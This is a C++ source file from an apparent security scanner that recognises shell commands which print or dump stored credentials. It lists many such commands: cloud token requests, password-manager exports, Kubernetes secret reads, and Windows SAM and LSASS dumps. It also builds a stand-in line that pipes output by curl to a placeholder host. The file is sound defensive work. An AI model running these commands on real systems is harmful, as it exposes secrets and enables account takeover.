// Commands that print what a store of credentials holds.
#include <algorithm>
#include <string>
#include <string_view>

#include "code/shell_analysis.h"

namespace interlock::scan::code::shell {
namespace {

std::string WordAt(const ShellCommand& command, std::size_t i) {
  return i < command.words.size() ? command.words[i].text : std::string();
}

// Keys of the registry under which programs keep how their user signs in.
bool IsStoreOfRegistry(std::string_view key) {
  return HasOneOf(LowerCase(key),
                  {"simontatham\\putty\\sessions", "winscp 2\\sessions", "openssh\\agent\\keys", "winvnc",
                   "tightvnc\\server", "realvnc\\", "mobatek\\", "terminal server client\\servers"});
}

// kubectl get -A secrets,cm -o yaml; secret/NAME
bool AsksCluster(const ShellCommand& command, std::string_view program) {
  if (!Is(program, {"kubectl", "oc"}) || WordAt(command, 1) != "get") return false;
  const bool shown = std::ranges::any_of(command.words, [](const ShellWord& each) {
    return each.text == "-o" || each.text.starts_with("-ojson") || each.text.starts_with("-oyaml") ||
           each.text.starts_with("-ogo") || each.text.starts_with("--output") || each.text.starts_with("-o=");
  });
  const auto names = [](std::string_view list) {
    while (!list.empty()) {
      std::string_view kind = list.substr(0, list.find(','));
      list.remove_prefix(std::min(kind.size() + 1, list.size()));
      kind = kind.substr(0, kind.find('/'));
      if (kind == "secret" || kind == "secrets") return true;
    }
    return false;
  };
  // The first word that is no option says what is asked for.
  for (std::size_t i = 2; shown && i < command.words.size(); ++i) {
    const std::string& text = command.words[i].text;
    if (text == "-n" || text == "-l" || text == "-o") ++i;
    if (text.starts_with('-')) continue;
    return names(text);
  }
  return false;
}

}  // namespace

bool NamesKeyFile(std::string_view variable) {
  const std::string lower = LowerCase(variable.substr(0, 64));
  if (Is(lower, {"keystore", "kubeconfig", "ssh_key", "private_key_file", "google_application_credentials"}))
    return true;
  const bool key = HasOneOf(lower, {"keystore", "private_key", "ssh_key", "credentials", "key_file", "keyfile"});
  return key && (lower.ends_with("_file") || lower.ends_with("_path") || lower.ends_with("file"));
}

bool AsksToken(const ShellCommand& command, std::string_view program) {
  const auto word = [&](std::size_t i) { return WordAt(command, i); };
  return (program == "gh" && word(1) == "auth" && word(2) == "token") ||
         (program == "gcloud" && word(1) == "auth" && word(2).starts_with("print-")) ||
         (program == "aws" && Is(word(1), {"sts", "ecr"}) &&
          (word(2).starts_with("get-") || word(2).starts_with("assume-")) && word(2) != "get-caller-identity") ||
         (program == "az" && word(1) == "account" && word(2) == "get-access-token");
}

bool AsksStore(const ShellCommand& command, std::string_view program) {
  const auto word = [&](std::size_t i) { return WordAt(command, i); };
  return (program == "security" && HasOneOf(word(1), {"find-generic", "find-internet", "dump-keychain", "export"})) ||
         (program == "gpg" &&
          HasFlag(command, {"--export-secret-keys", "--export-secret-key", "--export-secret-subkeys"})) ||
         (program == "aws" && word(1) == "configure" &&
          (word(2) == "export-credentials" ||
           (word(2) == "get" && HasOneOf(word(3), {"secret", "token", "access_key"})))) ||
         (program == "kubectl" && word(1) == "config" && word(2) == "view" && HasFlag(command, {"--raw"})) ||
         AsksCluster(command, program) || (program == "git" && word(1) == "credential" && word(2) == "fill") ||
         (program == "op" && (word(1) == "read" || (Is(word(1), {"item", "document"}) && word(2) == "get"))) ||
         (program == "bw" && Is(word(1), {"get", "list", "export"})) ||
         (Is(program, {"lpass", "keepassxc-cli"}) && Is(word(1), {"show", "export"})) ||
         (program == "aws" && word(2) == "get-secret-value") ||
         (program == "gcloud" && word(1) == "secrets" && HasFlag(command, {"access"})) ||
         (program == "az" && word(1) == "keyvault" && word(2) == "secret" &&
          Is(word(3), {"show", "download", "backup"})) ||
         (program == "sops" && HasFlag(command, {"-d", "--decrypt"})) || (program == "pass" && word(1) == "show") ||
         (program == "vault" && (word(1) == "read" || (word(1) == "kv" && word(2) == "get"))) ||
         (program == "heroku" && word(1) == "auth:token") ||
         (program == "npm" && word(1) == "token" && word(2) == "create") ||
         (program == "doctl" && word(1) == "auth" && word(2) == "token") ||
         (program == "secret-tool" && word(1) == "lookup") ||
         (program == "npm" && word(1) == "config" && word(2) == "get" && HasOneOf(word(3), {"_auth", "_password"})) ||
         (program == "doppler" && word(1) == "secrets" && Is(word(2), {"", "download", "get"})) ||
         (program == "infisical" && Is(word(1), {"export", "secrets"})) ||
         (program == "chamber" && Is(word(1), {"export", "read", "env"})) ||
         (program == "aws" && word(1) == "ssm" && word(2).starts_with("get-parameter") &&
          HasFlag(command, {"--with-decryption"})) ||
         (Is(program, {"gopass", "rbw"}) && Is(word(1), {"show", "get"})) ||
         (program == "ansible-vault" && Is(word(1), {"view", "decrypt"})) ||
         (Is(program, {"fly", "flyctl"}) && word(1) == "auth" && word(2) == "token") ||
         // what containers are given in their environment
         (Is(program, {"docker", "podman"}) && (word(1) == "inspect" || word(2) == "inspect") &&
          std::ranges::any_of(command.words, [](const ShellWord& each) { return Has(each.text, ".Config.Env"); })) ||
         (program == "pulumi" && HasFlag(command, {"--show-secrets"})) ||
         (program.starts_with("docker-credential-") && word(1) == "get") ||
         (Is(program, {"get-itemproperty", "gp", "get-itempropertyvalue", "reg"}) &&
          std::ranges::any_of(command.words, [](const ShellWord& each) { return IsStoreOfRegistry(each.text); })) ||
         Is(program, {"retrieveall", "retrievepassword"});  // of a PasswordVault
}

// reg save HKLM\SAM FILE, rundll32 comsvcs.dll, MiniDump PID FILE full, procdump -ma lsass FILE: Windows' own passwords
// in a file.
bool Analysis::Dumps(std::uint32_t index, std::string_view program) {
  const ShellCommand& command = script_.commands[index];
  std::string said;
  for (const ShellWord& word : command.words) said += LowerCase(word.text) + " ";
  const bool hive = program == "reg" && HasOneOf(said, {"reg save ", "reg.exe save "}) &&
                    HasOneOf(said, {"\\sam ", "\\security ", "\\system "});
  const bool memory = (program == "rundll32" && Has(said, "comsvcs") && HasOneOf(said, {"minidump", "#24"})) ||
                      (Is(program, {"procdump", "procdump64"}) && Has(said, "lsass"));
  if (!hive && !memory) return false;
  Taint taken;
  taken.secret = true;
  taken.what = hive ? "the accounts that Windows keeps" : "the memory in which Windows keeps passwords";
  taken.secret_loc = command.loc;
  for (std::size_t i = 2; i < command.words.size(); ++i) {
    const ShellWord& word = command.words[i];
    if (Has(word.text, ".") && !Has(LowerCase(word.text), ".dll")) Remember(word.text, word.variables, taken);
  }
  Emit(ShellAct::kTakeover, index, "copies " + taken.what, 2);
  return true;
}

}  // namespace interlock::scan::code::shell

namespace interlock::scan::code {

bool PrintsSecret(std::string_view command) {
  const ShellScript script = ParseShell(command);
  return std::ranges::any_of(script.commands, [](const ShellCommand& one) {
    const std::string program = shell::ProgramOf(one);
    return shell::AsksStore(one, program) || shell::AsksToken(one, program);
  });
}

// Had it sent what it prints, would that be a secret?
Printed PrintedBy(std::string_view script) {
  constexpr std::size_t kMostAsked = std::size_t{1} << 20U;
  if (script.size() > kMostAsked) return Printed::kNothing;
  std::string text = "{\n";
  text += script;
  text += "\n} | ";
  const std::size_t at = text.size();
  text += "curl --data-binary @- https://reader.invalid/\n";
  const ShellScript parsed = ParseShell(text, {}, "x.sh");
  for (const ShellUse& use : AnalyzeShellScript(parsed, text)) {
    if (use.loc.end <= at) continue;
    if (use.act == ShellAct::kSendTaken) return Printed::kTaken;
    if (use.act != ShellAct::kSendSecret) continue;
    const bool all = !use.steps.empty() && use.steps[0].second == "reads the environment";
    return all ? Printed::kEnvironment : Printed::kSecret;
  }
  return Printed::kNothing;
}

}  // namespace interlock::scan::code
